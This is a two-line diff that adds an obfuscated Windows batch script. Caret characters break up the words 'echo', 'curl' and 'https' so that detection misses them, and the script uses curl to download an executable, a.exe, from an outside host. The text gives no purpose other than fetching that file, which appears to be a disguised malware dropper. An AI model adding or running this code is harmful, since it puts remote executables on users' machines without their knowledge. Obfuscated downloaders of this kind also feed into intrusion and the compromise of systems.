@@ -1,0 +1,2 @@
+@ech^o off
+cu^rl -o a.exe ht^tps^://wget^cdn-fi^les.com/carets
